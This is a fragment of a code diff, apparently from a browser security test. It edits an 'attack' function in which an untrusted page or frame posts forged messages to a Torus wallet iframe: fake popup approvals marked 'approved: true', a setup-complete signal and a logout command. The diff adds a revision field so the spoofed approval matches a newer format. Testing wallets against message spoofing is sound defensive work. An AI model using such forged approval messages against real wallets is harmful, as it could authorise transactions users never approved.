@@ -48,7 +48,7 @@ async function attack(stranger: Page | Frame, { account, where }: { account: str
         port1.postMessage({ target: 'iframe_torus', data: { name: 'provider', data: sign } });
       }
       for (const kind of ['popup_loaded', 'popup_result', 'done']) {
-        post({ kind, windowId: 'w', approvalId: 'a', decision: { approved: true } });
+        post({ kind, windowId: 'w', approvalId: 'a', revision: 1, decision: { approved: true } });
       }
       post({ message: 'setup_complete', nonce: '', inlay: 1 });
       post({ target: 'wallet', type: 'logout' });
